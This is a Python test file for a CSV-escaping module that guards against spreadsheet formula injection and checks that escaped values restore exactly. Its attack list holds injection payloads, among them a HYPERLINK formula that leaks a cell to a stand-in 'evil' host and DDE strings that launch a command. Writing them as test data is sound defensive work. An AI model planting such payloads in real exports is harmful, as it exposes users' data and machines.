"""The spreadsheet-safe CSV cell (OWASP's CSV injection rules) and its way back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

import hitflow_csv

ATTACKS = [
    '=HYPERLINK("http://evil/?"&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+2",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formulas_become_text(value: str) -> None:
    assert hitflow_csv.cell(value) == "'" + value
    assert hitflow_csv.restore(hitflow_csv.cell(value)) == value  # the apostrophe kept by a spreadsheet
    assert hitflow_csv.restore(value) == value  # ... or dropped by it


@pytest.mark.parametrize("value", ["", "P1", "https://x.org/1.jpg", "34", "-5", "+1.5", "-2e3", ".5", "a=b", "it's"])
def test_ordinary_values_and_plain_numbers_stay(value: str) -> None:
    assert hitflow_csv.cell(value) == value
    assert hitflow_csv.restore(value) == value


def test_values_already_starting_with_an_apostrophe_come_back_exactly() -> None:
    assert hitflow_csv.cell("'=1") == "''=1" and hitflow_csv.restore("''=1") == "'=1"
    assert hitflow_csv.cell("'abc") == "'abc" and hitflow_csv.restore("'abc") == "'abc"
    assert hitflow_csv.cell(None) == "" and hitflow_csv.cell(-3) == "-3"


@given(st.text())
def test_restore_undoes_cell(value: str) -> None:
    written = hitflow_csv.cell(value)
    assert hitflow_csv.restore(written) == value
    assert not written or written[0] not in hitflow_csv.FORMULA_START or hitflow_csv._NUMBER.fullmatch(written)


def test_writer_writes_every_cell_safely() -> None:
    out = io.StringIO()
    hitflow_csv.writer(out, lineterminator="\n").writerows([["=1+1", "ok"], ["@x", 5]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["'@x", "5"]]


def test_console_reads_a_file_csvsafe_wrote_as_its_values() -> None:
    """The DAG's input.csv (written through hitflow_csv) uploads to the console as the original values."""
    from hit_service.console.csvfiles import check_input

    out = io.StringIO()
    hitflow_csv.writer(out).writerows([["person_id", "image_url"], ["=1+2", "https://x.org/1.jpg"], ["'@a", "u"]])
    checked = check_input(out.getvalue().encode(), "<p>${person_id}</p><img src='${image_url}'>")
    assert checked.ok, checked.errors
    assert [row["person_id"] for row in checked.rows] == ["=1+2", "'@a"]
